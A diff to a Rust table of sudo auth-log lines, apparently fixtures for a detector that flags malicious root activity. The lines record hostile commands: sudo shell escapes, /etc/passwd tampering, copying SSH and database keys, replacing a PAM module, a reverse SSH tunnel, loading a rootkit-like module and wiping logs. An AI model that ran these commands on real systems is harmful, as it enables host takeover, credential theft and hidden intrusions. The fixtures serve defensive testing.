@@ -35,6 +35,14 @@ pub const HOST: &[(&str, &str, &[&str], &[&str])] = &[
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh ;",
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/python3 -c import os; os.system(\"/bin/sh\")",
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/docker run -v /:/mnt -it alpine chroot /mnt sh",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/usermod -s /bin/bash www-data",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee -a /etc/passwd",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cp -r /root/.ssh /tmp/",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/postgresql/16/main/server.key",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cp /tmp/e.so /lib/x86_64-linux-gnu/security/pam_unix.so",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ssh -R 9000:localhost:22 eve@198.51.100.2",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/sbin/insmod /tmp/rk.ko",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/nmap --interactive",
             // What is refused, and whom nobody works as.
             "eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
             "eve : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
@@ -106,6 +114,7 @@ pub const HOST: &[(&str, &str, &[&str], &[&str])] = &[
         &[
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/crontab -e",
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/crontab -u root /tmp/c",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/at now + 1 minute",
         ],
         &[
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/crontab -l",
@@ -122,6 +131,9 @@ pub const HOST: &[(&str, &str, &[&str], &[&str])] = &[
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/sed -i /198.51.100.2/d /var/log/auth.log",
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/ln -sf /dev/null /root/.bash_history",
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/journal",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/find /var/log -name *.log -delete",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/dd if=/dev/null of=/var/log/syslog",
+            "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/mv /var/log/auth.log /tmp/",
         ],
         &[
             "eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/grep alarm /var/log/syslog",
